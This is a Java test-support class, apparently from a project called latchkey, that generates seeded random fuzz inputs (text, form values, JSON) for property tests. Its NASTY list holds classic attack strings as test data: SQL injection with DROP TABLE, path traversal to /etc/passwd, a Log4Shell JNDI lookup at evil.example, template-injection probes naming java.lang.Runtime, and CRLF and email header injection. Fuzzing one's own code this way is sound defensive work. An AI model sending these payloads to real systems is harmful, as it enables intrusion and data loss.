package dev.latchkey.support;

import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.function.Consumer;
import java.util.random.RandomGenerator;
import java.util.random.RandomGeneratorFactory;
import java.util.stream.Collectors;
import java.util.stream.IntStream;

/**
 * What strangers may send, at random but the same for the same seed. A failure names its seed; {@code -Dlatchkey.fuzz.seed=…}
 * begins with that one, and {@code -Dlatchkey.fuzz.times=20} makes a run that many times as long.
 */
public final class Rubbish {

    private static final long FIRST_SEED = Long.getLong("latchkey.fuzz.seed", 1);
    private static final int TIMES = Integer.getInteger("latchkey.fuzz.times", 1);

    private static final List<String> NASTY = List.of(
            "",
            " ",
            "\0",
            "\r\nX-Forged: yes",
            "\u2028",
            "\u202e",
            "\ufeff",
            "\ud800",
            "%00",
            "%",
            "%zz",
            "%0d%0aX-Forged:%20yes",
            "%c0%af",
            "%252e%252e%252f",
            "../../../../etc/passwd",
            "..;/",
            ";jsessionid=1",
            "//evil.example/",
            "\\\\evil.example\\",
            "' OR '1'='1",
            "\"; DROP TABLE users; --",
            "<script>alert(1)</script>",
            "${jndi:ldap://evil.example/}",
            "${7*7}",
            "#{7*7}",
            "[[${7*7}]]",
            "__${T(java.lang.Runtime)}__::.x",
            "{0}",
            "-1",
            "0",
            "999999999999999999999999",
            "1e309",
            "NaN",
            "null",
            "true",
            "[]",
            "{}",
            "🔑",
            "１２３４５６",
            "000000",
            "a@b",
            "a@example.com",
            "@",
            "a@example.com\r\nBcc: b@example.com");

    private final RandomGenerator random;

    private Rubbish(long seed) {
        random = RandomGeneratorFactory.of("L64X128MixRandom").create(seed);
    }

    /** Tries a thing with that many seeds. */
    public static void often(int times, Consumer<Rubbish> property) {
        for (var seed = FIRST_SEED; seed < FIRST_SEED + (long) times * TIMES; seed++) {
            try {
                property.accept(new Rubbish(seed));
            } catch (AssertionError | RuntimeException e) {
                throw new AssertionError("with -Dlatchkey.fuzz.seed=" + seed + ": " + e.getMessage(), e);
            }
        }
    }

    /** Text of at most that many characters, often of a kind that broke something somewhere. */
    public String text(int longest) {
        var text = switch (random.nextInt(6)) {
            case 0 -> of(NASTY);
            case 1 -> of(NASTY) + text(longest / 2 + 1) + of(NASTY);
            case 2 -> characters(longest, 0x20, 0x7f);
            case 3 -> characters(longest, 0, 0x20);
            case 4 -> characters(longest, 0, 0x3000);
            default -> characters(longest, 0x1f300, 0x1fa00);
        };
        return text.substring(0, Math.min(text.length(), longest));
    }

    /** One of these. */
    public <T> T of(List<T> choices) {
        return choices.get(random.nextInt(choices.size()));
    }

    /** A whole number from 0 to one less than that. */
    public int number(int bound) {
        return random.nextInt(bound);
    }

    /** Any whole number. */
    public long number() {
        return random.nextLong();
    }

    /** True so many times in a hundred. */
    public boolean inPercent(int percent) {
        return random.nextInt(100) < percent;
    }

    /** Bytes that are no text at all. */
    public byte[] bytes(int longest) {
        var bytes = new byte[random.nextInt(longest + 1)];
        random.nextBytes(bytes);
        return bytes;
    }

    /** Text as the value of a form's field, encoded, though not always well. */
    public String formValue(int longest) {
        return inPercent(20)
                ? new String(bytes(longest), StandardCharsets.ISO_8859_1)
                : java.net.URLEncoder.encode(text(longest), StandardCharsets.UTF_8);
    }

    /** A value of JSON, nested at most so deep. */
    public String json(int depth) {
        return switch (random.nextInt(depth > 0 ? 8 : 6)) {
            case 0 -> "null";
            case 1 -> String.valueOf(random.nextBoolean());
            case 2 -> String.valueOf(random.nextInt(-2, 200));
            case 3 -> of(List.of("1e400", "-0", "99999999999999999999", "0.1", "01", "NaN", "-"));
            case 4, 5 -> quoted(text(30));
            case 6 -> list(depth).collect(Collectors.joining(",", "[", "]"));
            default ->
                list(depth).map(value -> quoted(text(8)) + ":" + value).collect(Collectors.joining(",", "{", "}"));
        };
    }

    /** A string of JSON. */
    public static String quoted(String text) {
        return text.chars()
                .mapToObj(character -> character == '"' || character == '\\' || character < 0x20 || character > 0x7e
                        ? "\\u%04x".formatted(character)
                        : String.valueOf((char) character))
                .collect(Collectors.joining("", "\"", "\""));
    }

    private java.util.stream.Stream<String> list(int depth) {
        return IntStream.range(0, random.nextInt(4)).mapToObj(i -> json(depth - 1));
    }

    private String characters(int longest, int from, int to) {
        return IntStream.range(0, random.nextInt(longest + 1))
                .map(i -> random.nextInt(from, to))
                .collect(StringBuilder::new, StringBuilder::appendCodePoint, StringBuilder::append)
                .toString();
    }
}
